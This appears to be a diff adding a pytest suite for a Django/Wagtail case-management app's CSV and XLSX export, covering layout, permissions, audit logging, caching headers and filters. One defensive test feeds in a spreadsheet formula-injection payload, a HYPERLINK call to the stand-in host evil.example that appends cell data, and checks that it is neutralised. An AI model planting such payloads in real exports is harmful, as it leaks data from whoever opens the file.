@@ -1,0 +1,286 @@
+"""Case export: CSV and XLSX, streamed, formula-safe, for case managers only, and logged."""
+
+import csv
+import io
+
+import pytest
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+from openpyxl import load_workbook
+from wagtail.models import ModelLogEntry
+from wagtail.users.models import UserProfile
+
+from forms_app.models import Case, IntakeFormField
+from forms_app.review import export
+from tests.helpers import soup
+
+from .builders import copy_case, file_case, form_page, set_answer
+
+pytestmark = pytest.mark.django_db
+
+METADATA = [
+    "reference",
+    "case_type",
+    "status",
+    "language",
+    "submitted",
+    "last_activity",
+    "assigned_to",
+    "merit_score",
+    "tags",
+    "evidence_count",
+]
+DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def download(client, export_format, **params):
+    response = client.get(reverse(f"forms_app_review:export_{export_format}"), params)
+    body = b"".join(response.streaming_content) if response.streaming else response.content
+    return response, body
+
+
+def csv_rows(body):
+    assert body.startswith("\ufeff".encode())
+    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
+
+
+def xlsx_rows(body):
+    """Rows padded to the header's width (empty cells are not written, as in any spreadsheet)."""
+    sheet = load_workbook(io.BytesIO(body), read_only=True).active
+    rows = [["" if value is None else value for value in row] for row in sheet.iter_rows(values_only=True)]
+    width = len(rows[0])
+    return [row + [""] * (width - len(row)) for row in rows]
+
+
+def source_keys(case_type):
+    page = form_page(case_type, "en")
+    return list(IntakeFormField.objects.filter(page=page).order_by("sort_order").values_list("clean_name", flat=True))
+
+
+def by_reference(rows, header):
+    index = header.index("reference")
+    return {row[index]: dict(zip(header, row, strict=False)) for row in rows}
+
+
+def test_csv_has_a_column_per_question_in_form_order_and_a_row_per_case(client_for, case_manager, filed_cases):
+    """CSV: metadata columns, then every question key of the exported forms in form order, one row per case."""
+    response, body = download(client_for(case_manager), "csv")
+    assert response.status_code == 200
+    header, *rows = csv_rows(body)
+    assert header[: len(METADATA)] == METADATA
+    assert header[len(METADATA) : -1] == source_keys("account_closure") + [
+        key for key in source_keys("investor") if key not in source_keys("account_closure")
+    ]
+    assert header[-1] == "other_answers"
+    assert len(rows) == 3
+
+    english, chinese, investor = filed_cases
+    table = by_reference(rows, header)
+    assert table[english.reference]["wallet_balance_frozen"] == "1000.50 CNY"
+    assert table[chinese.reference]["wallet_balance_frozen"] == "250.25 CNY"
+    assert table[chinese.reference]["language"] == "zh-hans"
+    assert table[chinese.reference]["case_type"] == "account_closure"
+    assert table[investor.reference]["wallet_balance_frozen"] == ""
+    assert table[english.reference]["what_happened"].startswith("They summoned me")
+    assert table[english.reference]["evidence_count"] == "0"
+
+
+def test_csv_flattens_lists_dates_and_composite_answers(client_for, case_manager, filed_cases):
+    """Lists are joined with "; ", date ranges are ISO intervals, composite answers read "key: value"."""
+    case = filed_cases[0]
+    answers = case.answers
+    response, body = download(client_for(case_manager), "csv", ids=str(case.pk))
+    header, row = csv_rows(body)
+    values = dict(zip(header, row, strict=True))
+    for key, question in case.questions_as_seen.items():
+        kind = question["field_type"]
+        if kind == "checkboxes":
+            assert values[key] == "; ".join(answers[key])
+        elif kind == "date_range":
+            assert values[key] == "2024-01-10/2024-03-02"
+        elif kind == "contact_preference":
+            assert values[key] == "never: wechat, phone_86; safe: email, signal"
+        elif kind == "attestation":
+            assert values[key] == "confirmed: yes; full_name: 张三 Zhang San"
+        elif kind in ("consent", "checkbox"):
+            assert values[key] == "yes"
+
+
+def test_xlsx_holds_the_same_cells_as_the_csv_with_a_row_of_question_labels(client_for, case_manager, filed_cases):
+    """XLSX: keys, then the questions' wording, then exactly the CSV's rows (numbers as numbers)."""
+    client = client_for(case_manager)
+    _response, csv_body = download(client, "csv")
+    response, body = download(client, "xlsx")
+    assert response.status_code == 200
+    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    keys, labels, *rows = xlsx_rows(body)
+    csv_header, *csv_data = csv_rows(csv_body)
+    assert list(keys) == csv_header
+    labels = dict(zip(keys, labels, strict=True))
+    assert labels["reference"] == "Reference"
+    english_field = IntakeFormField.objects.get(page=form_page("account_closure", "en"), clean_name="what_happened")
+    assert labels["what_happened"] == english_field.label
+    assert [[str(value) for value in row] for row in rows] == csv_data
+    evidence_column = keys.index("evidence_count")
+    assert all(isinstance(row[evidence_column], int) for row in rows)
+
+
+def test_xlsx_question_labels_follow_the_exporters_language(client_for, case_manager, filed_cases):
+    """A Chinese-speaking case manager gets the questions' Chinese wording in the label row."""
+    profile = UserProfile.get_for_user(case_manager)
+    profile.preferred_language = "zh-hans"
+    profile.save()
+    response, body = download(client_for(case_manager), "xlsx")
+    keys, labels, *_rows = xlsx_rows(body)
+    chinese = IntakeFormField.objects.get(page=form_page("account_closure", "zh-hans"), clean_name="what_happened")
+    assert dict(zip(keys, labels, strict=True))["what_happened"] == chinese.label
+
+
+@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
+@pytest.mark.parametrize("start", DANGEROUS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
+def test_formula_like_answers_are_neutralised(client_for, case_manager, filed_cases, export_format, start):
+    """Any cell starting with = + - @ tab or CR is prefixed with an apostrophe, so it is never a formula."""
+    case = filed_cases[0]
+    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
+    set_answer(case, "what_happened", payload)
+    set_answer(case, "wechat_id", start + "1+1")
+    response, body = download(client_for(case_manager), export_format, ids=str(case.pk))
+    if export_format == "csv":
+        header, row = csv_rows(body)
+    else:
+        header, _labels, row = xlsx_rows(body)
+        sheet = load_workbook(io.BytesIO(body)).active
+        assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
+    values = dict(zip(header, row, strict=True))
+    # XML turns a carriage return into a line break; what matters is the apostrophe in front.
+    expected_start = "\n" if start == "\r" and export_format == "xlsx" else start
+    assert values["what_happened"] == "'" + expected_start + payload[1:]
+    assert values["wechat_id"] == "'" + expected_start + "1+1"
+    assert all(not str(value).startswith(tuple(DANGEROUS)) for value in row)
+
+
+@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
+def test_characters_illegal_in_xml_do_not_break_the_file(client_for, case_manager, filed_cases, export_format):
+    """Control characters in an answer are dropped from XLSX, and the workbook still opens."""
+    case = filed_cases[0]
+    set_answer(case, "what_happened", "before\x00\x01\x0b\x1fafter <b>&amp;</b>")
+    _response, body = download(client_for(case_manager), export_format, ids=str(case.pk))
+    if export_format == "xlsx":
+        header, _labels, row = xlsx_rows(body)
+        assert dict(zip(header, row, strict=True))["what_happened"] == "beforeafter <b>&amp;</b>"
+    else:
+        header, row = csv_rows(body)
+        assert dict(zip(header, row, strict=True))["what_happened"].endswith("after <b>&amp;</b>")
+
+
+@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
+def test_only_case_managers_may_export(client, client_for, case_manager, reviewer, communications, export_format):
+    """Reviewers (view only) and Communications staff get 403; anonymous visitors go to the login page."""
+    file_case()
+    url = reverse(f"forms_app_review:export_{export_format}")
+    assert client.get(url).status_code == 302
+    assert client_for(reviewer).get(url).status_code == 403
+    assert client_for(communications).get(url).status_code == 403
+    assert client_for(case_manager).get(url).status_code == 200
+    assert not ModelLogEntry.objects.filter(action=export.EXPORT_ACTION, user__in=[reviewer, communications]).exists()
+
+
+@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
+def test_every_exported_case_is_written_to_the_audit_log(client_for, case_manager, filed_cases, export_format):
+    """Each exported case gets one log entry naming the exporter, the format and the size of the export."""
+    response, _body = download(client_for(case_manager), export_format, case_type="account_closure")
+    entries = ModelLogEntry.objects.filter(action="forms_app.case.export")
+    assert sorted(entries.values_list("object_id", flat=True)) == sorted(str(case.pk) for case in filed_cases[:2])
+    assert {entry.user_id for entry in entries} == {case_manager.pk}
+    assert {entry.data["format"] for entry in entries} == {export_format}
+    assert {entry.data["count"] for entry in entries} == {2}
+    assert len({entry.uuid for entry in entries}) == 1
+
+
+def test_response_is_an_uncached_attachment_named_by_date(client_for, case_manager, filed_cases):
+    """The download is a streamed attachment, never cached, never sniffed."""
+    for export_format in ("csv", "xlsx"):
+        response, _body = download(client_for(case_manager), export_format)
+        assert response.streaming
+        assert response["Content-Disposition"].startswith('attachment; filename="cases-')
+        assert response["Content-Disposition"].endswith(f'.{export_format}"')
+        assert "no-store" in response["Cache-Control"]
+        assert response["X-Content-Type-Options"] == "nosniff"
+
+
+@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
+def test_query_count_does_not_grow_with_the_number_of_cases(client_for, case_manager, export_format):
+    """Exporting 50 cases takes as many queries as exporting 5 (cases are read in chunks, not one by one)."""
+    client = client_for(case_manager)
+    original = file_case()
+    client.get(reverse(f"forms_app_review:export_{export_format}"))  # warm the session and caches
+
+    def queries_for_export():
+        with CaptureQueriesContext(connection) as queries:
+            response, body = download(client, export_format)
+        assert response.streaming
+        return len(queries), body
+
+    copy_case(original, 4)
+    few, _body = queries_for_export()
+    copy_case(original, 45)
+    many, _body = queries_for_export()
+    assert Case.objects.count() == 50
+    assert many == few
+
+
+def test_the_queues_filters_and_ticked_cases_choose_what_is_exported(client_for, case_manager, filed_cases):
+    """case_type, language, status, dates and ids narrow the export exactly as in the queue."""
+    client = client_for(case_manager)
+    english, chinese, investor = filed_cases
+
+    def references(**params):
+        response, body = download(client, "csv", **params)
+        assert response.status_code == 200, body
+        header, *rows = csv_rows(body)
+        return {row[0] for row in rows}
+
+    assert references(case_type="investor") == {investor.reference}
+    assert references(case_type=["investor", "account_closure"]) == {c.reference for c in filed_cases}
+    assert references(language="zh-hans") == {chinese.reference}
+    assert references(ids=f"{english.pk},{investor.pk}") == {english.reference, investor.reference}
+    assert references(status="closed") == set()
+    today = english.submitted_at.date().isoformat()
+    assert references(submitted_from=today, submitted_to=today) == {c.reference for c in filed_cases}
+    assert references(submitted_from="2000-01-01", submitted_to="2000-01-02") == set()
+    assert references(submitted_from=today, status="new") == {c.reference for c in filed_cases}
+
+
+def test_the_queues_export_page_links_to_files_of_exactly_its_selection(client_for, case_manager, filed_cases):
+    """From the queue's Export page (its filters, or ticked id=s) both download links export that selection."""
+    client = client_for(case_manager)
+    english, chinese, investor = filed_cases
+
+    def exported(selection):
+        page = client.get(reverse("forms_app_review:export"), selection)
+        assert page.status_code == 200
+        links = {
+            link["href"].split("?")[0]: link["href"]
+            for link in soup(page).select("a[href]")
+            if "/export/csv/" in link["href"] or "/export/xlsx/" in link["href"]
+        }
+        csv_link = links[reverse("forms_app_review:export_csv")]
+        xlsx_link = links[reverse("forms_app_review:export_xlsx")]
+        _header, *rows = csv_rows(b"".join(client.get(csv_link).streaming_content))
+        _keys, _labels, *sheet_rows = xlsx_rows(b"".join(client.get(xlsx_link).streaming_content))
+        assert [row[0] for row in sheet_rows] == [row[0] for row in rows]
+        return {row[0] for row in rows}
+
+    assert exported({"case_type": "account_closure", "language": "zh-hans"}) == {chinese.reference}
+    assert exported({"id": [english.pk, investor.pk]}) == {english.reference, investor.reference}
+
+
+def test_an_unknown_or_invalid_filter_is_refused_rather_than_ignored(client_for, case_manager, filed_cases):
+    """A filter the export cannot apply gives 400, never a larger export than was asked for."""
+    client = client_for(case_manager)
+    assert download(client, "csv", colour="blue")[0].status_code == 400
+    assert download(client, "csv", case_type="nonsense")[0].status_code == 400
+    assert download(client, "xlsx", ids="1,two")[0].status_code == 400
+    assert download(client, "xlsx", submitted_from="last tuesday")[0].status_code == 400
+    assert not ModelLogEntry.objects.filter(action=export.EXPORT_ACTION).exists()
